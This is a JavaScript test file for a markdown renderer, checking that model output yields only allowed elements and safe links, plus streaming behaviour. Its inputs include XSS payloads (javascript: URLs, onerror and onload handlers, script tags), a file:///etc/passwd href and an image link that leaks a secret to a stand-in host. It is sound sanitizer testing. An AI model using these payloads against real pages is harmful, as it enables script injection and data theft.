// Markdown: what a model or a tool writes becomes allowed elements and text, and nothing else.
import assert from 'node:assert/strict';
import test from 'node:test';
import { GrowingBlocks, blocks, completed, safeHref } from '../../static/core/markdown.js';
import { chance } from './helpers.mjs';

const TAGS = new Set(
  (
    'p span strong em del code br input a pre blockquote hr ul ol li table thead tbody tr th td ' +
    'h1 h2 h3 h4 h5 h6'
  ).split(' '),
);
const FIELDS = new Set(['tag', 'kids', 'href', 'lang', 'align', 'start', 'checked', 'image']);

function* nodes(node) {
  yield node;
  if (typeof node !== 'string') for (const kid of node.kids) yield* nodes(kid);
}
const all = (text, md) => blocks(text, md).flatMap((block) => [...nodes(block.node)]);
const text = (source, md) =>
  all(source, md)
    .filter((node) => typeof node === 'string')
    .join('');
const tags = (source) =>
  all(source)
    .filter((node) => node.tag)
    .map((node) => node.tag);

test('links go to http, https and mailto only', () => {
  const good = ['http://a.b/', 'https://a.b/c?d=e#f', 'mailto:a@b.c', 'HTTPS://A.B/'];
  const bad = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\nscript:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:x',
    '\u0001javascript:x',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    '/relative',
    '//evil.example',
    '#here',
    '',
    'javascript&#58;alert(1)',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    'blob:http://a/b',
    'https:\\\\evil',
    'http://',
  ];
  for (const href of good) assert.ok(safeHref(href), href);
  for (const href of bad) assert.equal(safeHref(href), null, href);
});

const EVIL = [
  '[x](javascript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<img src=x onerror=alert(1)>',
  '![](https://evil.example/?q=secret)',
  '![x](javascript:alert(1))',
  '```"><script>alert(1)</script>\ncode\n```',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '<a href="javascript:x">y</a>',
  '| <img src=x onerror=alert(1)> |\n|-|\n| <svg/onload=alert(1)> |',
  '# <iframe src=x>',
  '- <b onclick=x>',
  '> <style>*{}</style>',
  '<!-- --><img src=x>',
  '<![CDATA[<img src=x>]]>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '`<img src=x>`',
  '**<img src=x>**',
  '[<img src=x onerror=alert(1)>](https://a.b)',
  '<a\nhref=x>',
  '<https://a.b/"onclick="x>',
  '[a](https://a.b "\'><img src=x>")',
];

test('whatever is written, only allowed elements with allowed fields come out', () => {
  for (const source of EVIL) {
    for (const node of all(source)) {
      if (typeof node === 'string') continue;
      assert.ok(TAGS.has(node.tag), `${node.tag} from ${source}`);
      for (const field of Object.keys(node)) assert.ok(FIELDS.has(field), `${field} from ${source}`);
      if (node.href) assert.match(node.href, /^(https?:|mailto:)/);
    }
  }
});

test('raw HTML is shown as it was written', () => {
  assert.equal(text('a <b>x</b> <img src=x onerror=alert(1)>'), 'a <b>x</b> <img src=x onerror=alert(1)>');
  assert.equal(text('<div>\n<i>x</i>\n</div>'), '<div>\n<i>x</i>\n</div>');
});

test('pictures are links that say so, and are never loaded', () => {
  const picture = all('![a cat](https://e.x/cat.png)').find((node) => node.image);
  assert.equal(picture.tag, 'a');
  assert.equal(picture.href, 'https://e.x/cat.png');
  assert.deepEqual(picture.kids, ['a cat']);
});

test('entities are decoded in text, and left alone in code', () => {
  assert.equal(text('a &lt;b&gt; &amp; &#233; &eacute; &#0;'), 'a <b> & é &eacute; \ufffd');
  assert.equal(text('`&lt;`'), '&lt;');
  assert.equal(text('&constructor; &toString;'), '&constructor; &toString;');
});

test('tables, lists, tasks, headings and code come out as such', () => {
  assert.deepEqual(tags('| a |\n|--:|\n| 1 |'), ['table', 'thead', 'tr', 'th', 'tbody', 'tr', 'td']);
  assert.ok(tags('- [x] done').includes('input'));
  assert.equal(all('3. x').find((node) => node.tag === 'ol').start, 3);
  assert.deepEqual(tags('## H'), ['h2']);
  assert.equal(all('```js\nx\n```')[0].lang, 'js');
});

test('a part that starts inside a fence renders alone as code', () => {
  const [block] = blocks('let x = "# no heading";\n```\nafter', { fence: '```', lang: 'js' });
  assert.equal(block.node.tag, 'pre');
  assert.equal(block.node.lang, 'js');
  assert.equal(block.node.kids[0], 'let x = "# no heading";');
});

test('blocks that did not change are told by their source', () => {
  const before = blocks('# A\n\nfirst\n\nsec');
  const after = blocks('# A\n\nfirst\n\nsecond');
  assert.deepEqual(
    before.slice(0, 2).map((block) => block.raw),
    after.slice(0, 2).map((block) => block.raw),
  );
  assert.notEqual(before.at(-1).raw, after.at(-1).raw);
});

test('nesting without end is shown, not thrown', () => {
  for (const source of [
    '>'.repeat(16_000),
    `${'- '.repeat(5000)}x`,
    '['.repeat(16_000),
    '*'.repeat(16_000),
    '`'.repeat(16_000),
  ]) {
    assert.ok(text(source).length > 0 || blocks(source).length > 0, source.slice(0, 3));
  }
});

test('every prefix of a stream renders', () => {
  const whole =
    '# Hi\n\n| a | b |\n|--|--|\n| `1` | **2** |\n\n' +
    '```sh\nls\n```\n\n- [x] [l](https://a.b) ![p](https://c.d)\n\n> q <b>';
  for (let end = 0; end <= whole.length; end += 1) blocks(whole.slice(0, end));
});

test('a text that grows gives the same blocks as the whole, at every length', () => {
  const parts = [
    '# H\n\n',
    'para\n',
    '===\n\n',
    '- a\n- b\n\n',
    '  c\n\n',
    '1. x\n',
    '\n',
    '```sh\nls\n\n# no\n```\n',
    '| a |\n|--|\n| 1 |\n',
    'x\r\ny\n\n',
    '> q\n',
    '<div>\nx\n</div>\n\n',
    '---\n',
    '    code\n\n',
    'text **b** [l](https://a.b)\n',
    '\n\n',
  ];
  for (let seed = 1; seed <= 60; seed += 1) {
    const pick = chance(seed);
    let source = '';
    while (source.length < 300) source += parts[pick(parts.length)];
    const growing = new GrowingBlocks();
    for (let end = 0; end <= source.length; end += 1 + pick(4)) {
      // A carriage return that is cut from its line feed is a line of its own until the next delta.
      if (source[end - 1] === '\r') continue;
      assert.deepEqual(
        growing.blocks(source.slice(0, end)),
        blocks(source.slice(0, end)),
        `seed ${seed} end ${end}`,
      );
    }
  }
});

test('a text that grows is read from its last blocks only', () => {
  const growing = new GrowingBlocks({ fence: '```', lang: 'js' });
  let source = 'x\n```\n\n';
  for (let i = 0; i < 50; i += 1) {
    source += `paragraph ${i}\n\n`;
    growing.blocks(source);
  }
  assert.ok(source.length + 6 - growing.offset < 100);
  assert.deepEqual(growing.blocks('all new'), blocks('all new', { fence: '```', lang: 'js' }));
});

test('marks that are begun at the end of a growing text are closed, and text is never lost', () => {
  for (const [given, wanted] of [
    ['a `b', 'a `b`'],
    ['a `', 'a '],
    ['a `b` c', 'a `b` c'],
    ['a **b', 'a **b**'],
    ['a **b ', 'a **b**'],
    ['a **b*', 'a **b**'],
    ['a **', 'a '],
    ['a **b** c', 'a **b** c'],
    ['- **b', '- **b**'],
    ['a `**` b', 'a `**` b'],
    ['**a `b', '**a `b`'],
    ['a `b\nnext line', 'a `b\nnext line'],
    ['```sh\necho `ls', '```sh\necho `ls'],
    ['```\nx\n```\na `b', '```\nx\n```\na `b`'],
    ['2 * 3', '2 * 3'],
    ['', ''],
  ])
    assert.equal(completed(given), wanted, given);
  assert.equal(completed('echo `ls', { fence: '```', lang: 'sh' }), 'echo `ls', 'it starts inside of a fence');
});

test('a text that grows with its marks closed reads what is settled once, and ends as the whole', () => {
  const whole = 'One **bold** and `code`.\n\n'.repeat(40);
  const growing = new GrowingBlocks();
  for (let end = 1; end <= whole.length; end += 1) growing.blocks(completed(whole.slice(0, end)));
  assert.ok(growing.settled.length >= 36, `${growing.settled.length} blocks are settled`);
  assert.deepEqual(growing.blocks(whole), blocks(whole));
});
